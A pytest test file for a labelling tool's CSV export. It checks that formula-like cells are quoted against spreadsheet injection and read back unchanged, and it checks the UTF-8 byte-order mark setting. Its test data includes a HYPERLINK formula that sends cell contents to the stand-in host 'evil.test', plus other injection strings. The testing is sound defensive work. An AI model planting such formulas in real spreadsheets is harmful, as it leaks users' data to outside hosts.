"""Texts that a spreadsheet would compute: written as texts, and read back as they were."""

import csv
import io

import pytest

from fewshot_lab.cells import stored_text, table_encoding, text_cells
from fewshot_lab.export import labels_csv
from fewshot_lab.project import Project

FORMULA = '=HYPERLINK("http://evil.test/?"&A1,"open")'


@pytest.mark.parametrize(
    "text", [FORMULA, "+1+cmd", "-x", "@SUM(A1)", "\t=1", "\r=1", "'=1", "''+a"]
)
def test_a_formula_becomes_a_text_and_comes_back(text: str) -> None:
    (cell,) = text_cells([text])
    assert cell[0] == "'" and stored_text(cell) == text


@pytest.mark.parametrize("value", ["", "a=b", "-0.25", "+1e-3", "'quoted'", "it's", 7, -1.5, None])
def test_other_cells_stay(value: object) -> None:
    assert text_cells([value]) == [value]
    if isinstance(value, str):
        assert stored_text(value) == value


def test_exported_labels_hold_no_formula_and_can_be_read_again(home, tmp_path) -> None:
    from PIL import Image

    images = tmp_path / "in"
    images.mkdir()
    Image.new("RGB", (8, 8), "red").save(images / "=1+1.png")
    with Project.create("a") as project:
        project.import_images(images)
        (image,) = project.store.ids()
        project.labels.add({image: FORMULA[:40]}, annotator="@kim")
        text = labels_csv(project)
        (row,) = csv.DictReader(io.StringIO(text))
        assert all(row[name][0] == "'" for name in ("path", "label", "annotator"))
        (tmp_path / "labels.csv").write_text(text)
        with Project.create("b") as other:
            other.import_images(images)
            other.labels.add_csv(tmp_path / "labels.csv", annotator="kim")
            assert [c.name for c in other.store.classes()] == [FORMULA[:40]]


def test_tables_open_in_a_spreadsheet_and_the_mark_can_be_left_out(monkeypatch) -> None:
    """Excel takes a CSV without the mark for Windows-1252, and shows Größe for Größe."""
    assert "Größe".encode(table_encoding()).startswith(b"\xef\xbb\xbf")
    monkeypatch.setenv("FEWSHOT_LAB_CSV_BOM", "0")
    assert "Größe".encode(table_encoding()) == "Größe".encode()
